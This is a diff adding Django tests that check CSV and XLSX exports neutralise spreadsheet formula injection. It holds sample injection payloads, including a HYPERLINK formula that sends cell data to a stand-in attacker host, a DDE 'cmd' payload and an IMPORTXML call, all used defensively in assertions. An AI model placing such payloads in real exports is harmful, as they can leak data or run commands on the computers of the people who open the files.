@@ -4,12 +4,19 @@ An id of a row the user may not see is answered exactly like an id that does not
 in request bodies (validation errors) and in query-parameter filters.
 """
 
+import codecs
+import csv
+import io
 from typing import Any
 
 import pytest
 from django.core.exceptions import ValidationError
+from django.utils.dateparse import parse_datetime
+from openpyxl import load_workbook
 from rest_framework.response import Response as ApiResponse
 
+from backend.audit.models import AuditEvent
+from backend.common.exports import XLSX_TYPE, Table, formula_like, table_csv
 from backend.dialogue.models import DialogueConference
 from backend.dialogue.services import conference_create
 from backend.discovery.documents import conference_document
@@ -20,7 +27,14 @@ from backend.needs.services import need_close, need_unpublish
 from backend.outbox.models import OutboxEntry
 from backend.responses.models import Response
 from tests.backend.conftest import World
-from tests.factories import ConferenceFactory, NeedFactory
+from tests.factories import (
+    ConferenceFactory,
+    MatchFactory,
+    NeedFactory,
+    OrganizationFactory,
+    RegistrationFactory,
+    SolutionFactory,
+)
 
 MISSING = 987654321
 
@@ -96,6 +110,7 @@ def test_the_service_never_names_a_hidden_need(world: World) -> None:
     user = world.users["other_buyer"]
     data = _conference(world, [])
     data = {k: v for k, v in data.items() if k not in ("organization", "need_ids")}
+    data |= {k: parse_datetime(data[k]) for k in ("starts_at", "ends_at", "registration_deadline")}
     data |= {"needs": [world.draft_need]}
     # when
     with pytest.raises(ValidationError) as refused:
@@ -277,3 +292,125 @@ def test_a_need_leaving_publication_refreshes_the_conferences_that_link_it(
     assert OutboxEntry.objects.filter(
         entity="conference", entity_id=conference.pk, processed_at__isnull=False
     ).exists()
+
+
+# ------------------------------------------------- 3. exports a spreadsheet would run
+
+FORMULAS = (
+    '=HYPERLINK("https://angriper.example/?d="&A2;"Klikk")',
+    "+SUM(1+1)",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+)
+
+
+def _rows(answer: ApiResponse) -> list[list[str]]:
+    content: bytes = answer.content
+    assert content.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def _runnable(cell: str) -> bool:
+    return formula_like(cell)
+
+
+def test_every_trigger_of_owasps_list_is_neutralised_and_numbers_are_kept() -> None:
+    # given
+    table = Table(title="Ark", header=("a",), rows=[(f,) for f in FORMULAS] + [(12,), (-0.5,)])
+    # when
+    rows = list(csv.reader(io.StringIO(table_csv(table).removeprefix("\ufeff"), newline="")))
+    # then
+    assert [r[0] for r in rows[1:-2]] == ["'" + f for f in FORMULAS]
+    assert [r[0] for r in rows[-2:]] == ["12", "-0.5"]
+    assert not any(_runnable(r[0]) for r in rows[1:-2])
+
+
+def test_a_participant_named_like_a_formula_arrives_as_text_in_the_participants_csv(
+    world: World,
+) -> None:
+    # given: names stored before any input check (or by a careless import)
+    people = [{"name": f, "email": "x@helsetek.no", "role": f} for f in FORMULAS]
+    people.append({"name": "Åse Ødegård Æsøy", "email": "ase@helsetek.no", "role": ""})
+    RegistrationFactory(
+        conference=world.conference, organization=world.supplier_org, participants=people
+    )
+    # when
+    answer = world.client("buyer").get(
+        f"/api/conferences/{world.conference.pk}/registrations/export/"
+    )
+    # then
+    rows = _rows(answer)
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    assert [r[2] for r in rows[1:-1]] == ["'" + f for f in FORMULAS]
+    assert rows[-1][2] == "Åse Ødegård Æsøy"
+    assert not any(_runnable(cell) for row in rows for cell in row)
+
+
+def test_titles_names_and_reasons_like_formulas_arrive_as_text_in_the_match_export(
+    world: World,
+) -> None:
+    # given: every text column of the export holds a formula
+    buyer = OrganizationFactory(name="=cmd|' /C calc'!A0")
+    supplier = OrganizationFactory(name="@SUM(1)", kind="supplier")
+    need = NeedFactory(organization=buyer, title='+HYPERLINK("https://x.example")')
+    solution = SolutionFactory(organization=supplier, title="-1+1")
+    MatchFactory(
+        need=need,
+        solution=solution,
+        state=Match.State.REJECTED,
+        rejection_reason='\t=IMPORTXML("https://x.example")',
+    )
+    # when
+    answer = world.client("advisor").get("/api/matches/export/")
+    # then
+    rows = _rows(answer)
+    row = next(r for r in rows if r[1].startswith("'+HYPERLINK"))
+    assert row[2:5] == ["'=cmd|' /C calc'!A0", "'-1+1", "'@SUM(1)"]
+    assert row[7] == '\'\t=IMPORTXML("https://x.example")'
+    assert not any(_runnable(cell) for r in rows for cell in r)
+
+
+def test_the_participants_export_as_xlsx_holds_formulas_as_plain_text(world: World) -> None:
+    # given
+    people = [{"name": f, "email": "x@helsetek.no", "role": "Åse"} for f in FORMULAS[:4]]
+    RegistrationFactory(
+        conference=world.conference, organization=world.supplier_org, participants=people
+    )
+    url = f"/api/conferences/{world.conference.pk}/registrations/export/?file_format=xlsx"
+    # when
+    answer = world.client("buyer").get(url)
+    # then
+    assert answer["Content-Type"] == XLSX_TYPE
+    assert answer["Content-Disposition"].endswith('.xlsx"')
+    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    names = [c.value for c in cells if c.column == 3][1:]
+    assert names == list(FORMULAS[:4])
+    assert all(c.quotePrefix for c in cells if c.column == 3 and c.row > 1)
+    assert [c.value for c in cells if c.column == 5][1] == "Åse"
+
+
+def test_the_match_export_as_xlsx_keeps_numbers_as_numbers(world: World) -> None:
+    # when
+    answer = world.client("advisor").get("/api/matches/export/?file_format=xlsx")
+    # then
+    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    first = {h: c.value for h, c in zip(header, sheet[2], strict=True)}
+    assert first["id"] == world.match.pk and first["score"] == 0.8
+
+
+def test_an_unknown_export_format_is_refused_and_nothing_is_exported(world: World) -> None:
+    # given
+    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count()
+    # when
+    answer = world.client("advisor").get("/api/matches/export/?file_format=pdf")
+    # then
+    assert answer.status_code == 400
+    assert "file_format" in answer.json()
+    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count() == before
